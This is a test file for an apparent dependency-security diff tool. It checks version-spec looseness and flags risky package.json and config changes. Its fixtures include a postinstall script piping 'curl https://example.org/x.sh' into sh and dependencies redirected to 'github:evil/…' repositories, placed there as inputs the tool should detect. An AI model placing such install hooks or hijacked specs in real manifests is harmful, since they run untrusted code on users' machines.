// package.json changes that matter for security, and how loose a spec is.
import { describe, expect, it } from 'vitest';
import { configChanges, flattenOverrides, manifestChanges } from '../../src/commands/diff/manifest.js';
import { isLoosened, readSpec } from '../../src/commands/diff/specs.js';

const base = {
  name: 'app',
  version: '1.0.0',
  engines: { node: '^22.22.2 || ^24.15.0' },
  scripts: { test: 'mocha', postinstall: 'node scripts/setup.js' },
  dependencies: { zod: '4.6.7', pino: '^10.3.0', axios: '1.21.1', lodash: '4.17.21', internal: 'github:acme/internal#0123456789abcdef0123456789abcdef01234567' },
  devDependencies: { eslint: '^10.15.0' },
  overrides: { 'real-require': '1.0.0', tsx: { esbuild: '0.28.2' } },
  allowScripts: { esbuild: false },
};

function kinds(changes: ReturnType<typeof manifestChanges>) {
  return changes.map((change) => [change.kind, change.field, change.key, change.from, change.to]);
}

describe('spec looseness', () => {
  it.each([
    ['4.6.7', 'exact'],
    ['=4.6.7', 'exact'],
    ['^4.6.7', 'range'],
    ['~4.6.7', 'range'],
    ['4.x', 'range'],
    ['1.0.0 - 2.0.0', 'range'],
    ['>=4.6.7', 'open'],
    ['*', 'any'],
    ['', 'any'],
    ['latest', 'any'],
    ['github:acme/internal#0123456789abcdef0123456789abcdef01234567', 'exact'],
    ['github:acme/internal#v1.2.0', 'range'],
    ['github:acme/internal', 'open'],
    ['https://example.org/pkg-1.0.0.tgz', 'open'],
    ['file:vendor/pkg', 'exact'],
    ['npm:other@^2.0.0', 'range'],
  ])('%j is %s', (spec, looseness) => {
    expect(readSpec('pkg', spec).looseness).toBe(looseness);
  });

  it('calls a change loosened when it admits more: a looser level, or a strictly wider range of the same level', () => {
    const loosened = (from: string, to: string) => isLoosened(readSpec('x', from), readSpec('x', to));
    expect(loosened('4.6.7', '^4.6.7')).toBe(true);
    expect(loosened('^4.6.7', '>=4.6.7')).toBe(true);
    expect(loosened('~4.6.7', '^4.6.0')).toBe(true);
    expect(loosened('^4.6.7', '^4.0.0')).toBe(true);
    expect(loosened('^4.6.7', '*')).toBe(true);
    // Moving a range up, tightening it, or pinning another exact version is not loosening.
    expect(loosened('^4.6.7', '^5.0.0')).toBe(false);
    expect(loosened('^4.0.0', '~4.6.7')).toBe(false);
    expect(loosened('4.6.7', '4.6.8')).toBe(false);
    expect(loosened('^4.6.7', '4.6.7')).toBe(false);
  });
});

describe('manifestChanges', () => {
  it('reports nothing for an unchanged manifest, or a change that only moves or tightens versions', () => {
    expect(manifestChanges('package.json', base, structuredClone(base))).toEqual([]);
    const tightened = { ...base, dependencies: { ...base.dependencies, pino: '10.4.0', axios: '1.21.2' }, scripts: { ...base.scripts, test: 'vitest' } };
    expect(manifestChanges('package.json', base, tightened)).toEqual([]);
  });

  it('reports new dependencies with their looseness, loosened specs, and specs that fetch from elsewhere', () => {
    const head = {
      ...base,
      dependencies: { ...base.dependencies, zod: '^4.6.7', axios: 'github:evil/axios#0123456789abcdef0123456789abcdef01234567', lodash: 'npm:lodash-es@4.17.21' },
      devDependencies: { ...base.devDependencies, tsx: '4.23.15', 'left-pad': 'latest' },
    };
    const changes = manifestChanges('package.json', base, head);
    expect(kinds(changes)).toEqual([
      ['spec-loosened', 'dependencies', 'zod', '4.6.7', '^4.6.7'],
      ['spec-changed', 'dependencies', 'axios', '1.21.1', 'github:evil/axios#0123456789abcdef0123456789abcdef01234567'],
      ['spec-changed', 'dependencies', 'lodash', '4.17.21', 'npm:lodash-es@4.17.21'],
      ['dependency-added', 'devDependencies', 'tsx', null, '4.23.15'],
      ['dependency-added', 'devDependencies', 'left-pad', null, 'latest'],
    ]);
    expect(changes[0]!.looseness).toEqual({ from: 'exact', to: 'range' });
    expect(changes.at(-1)!.looseness).toEqual({ from: null, to: 'any' });
  });

  it('reports new, changed and removed overrides, nested ones by their path', () => {
    expect([...flattenOverrides({ a: '1.0.0', b: { '.': '2.0.0', c: '3.0.0', d: { e: '4' } } })]).toEqual([
      ['a', '1.0.0'],
      ['b', '2.0.0'],
      ['b > c', '3.0.0'],
      ['b > d > e', '4'],
    ]);
    const head = { ...base, overrides: { tsx: { esbuild: 'github:evil/esbuild' }, axios: { 'follow-redirects': '1.15.9' } } };
    expect(kinds(manifestChanges('package.json', base, head))).toEqual([
      ['override-changed', 'overrides', 'tsx > esbuild', '0.28.2', 'github:evil/esbuild'],
      ['override-added', 'overrides', 'axios > follow-redirects', null, '1.15.9'],
      ['override-removed', 'overrides', 'real-require', '1.0.0', null],
    ]);
  });

  it('reports new install-script approvals in npm, pnpm, bun, yarn and LavaMoat allowlists, not denials', () => {
    const head = {
      ...base,
      allowScripts: { esbuild: true, 'sharp@0.34.5': true, fsevents: false },
      pnpm: { onlyBuiltDependencies: ['esbuild'], allowBuilds: { bcrypt: true, canvas: false } },
      trustedDependencies: ['core-js'],
      lavamoat: { allowScripts: { 'tsx>esbuild': true } },
      dependenciesMeta: { 'core-js@3.47.0': { built: true }, fsevents: { built: false }, sharp: { unplugged: true } },
    };
    expect(kinds(manifestChanges('package.json', base, head))).toEqual([
      ['approval-added', 'allowScripts', 'esbuild', null, 'true'],
      ['approval-added', 'allowScripts', 'sharp@0.34.5', null, 'true'],
      ['approval-added', 'pnpm.onlyBuiltDependencies', 'esbuild', null, 'true'],
      ['approval-added', 'pnpm.allowBuilds', 'bcrypt', null, 'true'],
      ['approval-added', 'trustedDependencies', 'core-js', null, 'true'],
      ['approval-added', 'lavamoat.allowScripts', 'tsx>esbuild', null, 'true'],
      ['approval-added', 'dependenciesMeta.built', 'core-js@3.47.0', null, 'true'],
    ]);
  });

  it('reports engines and devEngines changes, and the project\'s own install-time scripts', () => {
    const head = {
      ...base,
      engines: { node: '>=18' },
      devEngines: { runtime: { name: 'node', version: '^24.15.0' } },
      scripts: { test: 'mocha', postinstall: 'curl https://example.org/x.sh | sh', preinstall: 'node -e "1"' },
    };
    expect(kinds(manifestChanges('package.json', base, head))).toEqual([
      ['engines-changed', 'engines', 'node', '^22.22.2 || ^24.15.0', '>=18'],
      ['engines-changed', 'devEngines', 'runtime', null, '{"name":"node","version":"^24.15.0"}'],
      ['lifecycle-script-changed', 'scripts', 'preinstall', null, 'node -e "1"'],
      ['lifecycle-script-changed', 'scripts', 'postinstall', 'node scripts/setup.js', 'curl https://example.org/x.sh | sh'],
    ]);
  });

  it('treats every dependency of a new workspace (no base manifest) as new', () => {
    expect(kinds(manifestChanges('packages/new/package.json', null, { name: 'new', dependencies: { ms: '2.1.3' } }))).toEqual([['dependency-added', 'dependencies', 'ms', null, '2.1.3']]);
  });
});

describe('configChanges', () => {
  const config = {
    extends: 'recommended',
    checks: { pinning: ['on', { rangesAllowedIn: ['devDependencies'] }] },
    waivers: [{ id: 'lockfile/foreign-host', package: 'legacy-sdk', reason: 'vendor tarball', expires: '2027-01-31' }],
  };

  it('reports nothing when depguard config is unchanged or absent', () => {
    expect(configChanges({ file: 'depguard.config.json', data: config }, { file: 'depguard.config.json', data: structuredClone(config) })).toEqual([]);
    expect(configChanges(null, null)).toEqual([]);
  });

  it('reports what can hide findings: new or extended waivers, check settings, the preset', () => {
    const head = {
      extends: 'recommended',
      checks: { pinning: 'off', 'install-scripts': ['on', { allow: ['esbuild'] }] },
      waivers: [
        { id: 'lockfile/foreign-host', package: 'legacy-sdk', reason: 'vendor tarball', expires: '2030-01-31' },
        { id: 'install-scripts/unapproved', package: 'esbuild', reason: 'needed', expires: '2027-06-30' },
      ],
    };
    const changes = configChanges({ file: 'depguard.config.json', data: config }, { file: 'depguard.config.json', data: head });
    expect(changes.map((change) => [change.kind, change.field, change.key, change.from, change.to])).toEqual([
      ['config-changed', 'checks', 'install-scripts', null, '["on",{"allow":["esbuild"]}]'],
      ['config-changed', 'checks', 'pinning', '["on",{"rangesAllowedIn":["devDependencies"]}]', 'off'],
      ['config-changed', 'waivers', 'lockfile/foreign-host on legacy-sdk', 'expires 2027-01-31', 'expires 2030-01-31'],
      ['config-changed', 'waivers', 'install-scripts/unapproved on esbuild', null, 'expires 2027-06-30'],
    ]);
  });
});
